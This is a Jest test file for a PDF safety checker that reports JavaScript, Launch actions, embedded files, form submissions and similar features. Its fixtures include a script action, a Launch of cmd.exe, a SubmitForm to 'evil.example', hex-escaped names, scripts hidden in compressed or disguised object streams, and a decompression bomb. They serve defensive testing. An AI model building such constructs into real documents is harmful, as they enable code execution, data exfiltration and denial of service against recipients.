import { deflateSync } from 'node:zlib'
import { describe, expect, test } from '@jest/globals'
import { remarksOnPdf } from '../../../src/checks/pdfActions'
import { anObjectStream, aPdf } from '../../builders/pdf'

const remarks = async (file: Buffer) => (await remarksOnPdf(file)).map((remark) => remark.en)
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

describe('PDF documents', () => {
  test('a plain document is clean', async () => expect(await remarks(aPdf())).toEqual([]))

  test.each([
    ['/OpenAction [3 0 R /FitH null]'],
    ['/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'],
    ['/Names << /Dests 4 0 R >>'],
  ])('turning to a page is harmless: %s', async (catalogue) => expect(await remarks(aPdf(catalogue))).toEqual([]))

  test('an action on opening that is an object of its own is harmless when it turns to a page', async () => {
    expect(await remarks(aPdf('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>'))).toEqual([])
    expect(await remarks(aPdf('/OpenAction 9 0 R', anObjectStream('<< /S /GoTo /D [3 0 R /Fit] >>')))).toEqual([])
    expect(await remarks(aPdf('/OpenAction 4 0 R', '<< /S /Named /N /Print >>'))).toEqual(['an action on opening'])
  })

  test.each([
    ['a script', aPdf('/OpenAction 4 0 R', script), ['JavaScript', 'an action on opening']],
    ['a script on opening', aPdf(`/OpenAction ${script}`), ['JavaScript', 'an action on opening']],
    ['a script in a reference', aPdf('', '<< /JS 5 0 R >>'), ['JavaScript']],
    ['a name written in escapes', aPdf('', '<< /S /J#61va#53cript >>'), ['JavaScript']],
    ['a program started', aPdf('', '<< /S /Launch /F (cmd.exe) >>'), ['a Launch action']],
    ['an embedded file', aPdf('/Names << /EmbeddedFiles 4 0 R >>'), ['embedded files']],
    [
      'a form that sends',
      aPdf('', '<< /S /SubmitForm /F (https://evil.example) >>'),
      ['a form that sends or imports data'],
    ],
    ['a jump into another file', aPdf('', '<< /S /GoToR /F (x.pdf) >>'), ['a jump to another file']],
    ['an XFA form', aPdf('/AcroForm << /XFA 4 0 R >>'), ['an XFA form']],
    ['rich media', aPdf('', '<< /Subtype /RichMedia >>'), ['rich media']],
  ])('%s is named', async (_, file, expected) => expect(await remarks(file)).toEqual(expected))

  test('a script inside a compressed object stream is found', async () => {
    expect(await remarks(aPdf('', anObjectStream(script)))).toEqual(['JavaScript'])
    expect(await remarks(aPdf('', anObjectStream(script, '/Filter [/Fl]')))).toEqual(['JavaScript'])
    expect(
      await remarks(
        aPdf(
          '',
          anObjectStream(
            script,
            '/Filter [/ASCIIHexDecode /FlateDecode]',
            (bytes) => Buffer.from(`${deflateSync(bytes).toString('hex')}>`) as never,
          ),
        ),
      ),
    ).toEqual(['JavaScript'])
  })

  test('a stream that does not call itself an object stream, but is built as one, is looked into too', async () => {
    const disguised = anObjectStream(script).toString('latin1').replace('/Type /ObjStm', '/Type /Other ')
    expect(await remarks(aPdf('', Buffer.from(disguised, 'latin1')))).toEqual(['JavaScript'])
  })

  test('the words of a page that is compressed are not names', async () => {
    const page = deflateSync(Buffer.from('BT (/JavaScript /Launch) Tj ET'))
    const stream = Buffer.concat([
      Buffer.from(`<< /Filter /FlateDecode /Length ${page.length} >>\nstream\n`),
      page,
      Buffer.from('\nendstream'),
    ])
    expect(await remarks(aPdf('', stream))).toEqual([])
  })

  test('what cannot be read is said to be not checked', async () => {
    await expect(remarks(aPdf('', anObjectStream(script, '/Filter /LZWDecode')))).rejects.toMatchObject({
      zh: expect.stringContaining('LZWDecode'),
    })
    const [encrypted] = await remarksOnPdf(
      Buffer.from(aPdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'), 'latin1'),
    )
    expect(encrypted).toMatchObject({ en: 'the document is encrypted and was not checked', notChecked: true })
  })

  test('an object stream that unpacks beyond reason is not unpacked', async () => {
    const bomb = anObjectStream(' '.repeat(40 * 1024 * 1024))
    await expect(remarks(aPdf('', bomb))).rejects.toMatchObject({ zh: expect.stringContaining('无法解压') })
  })
})
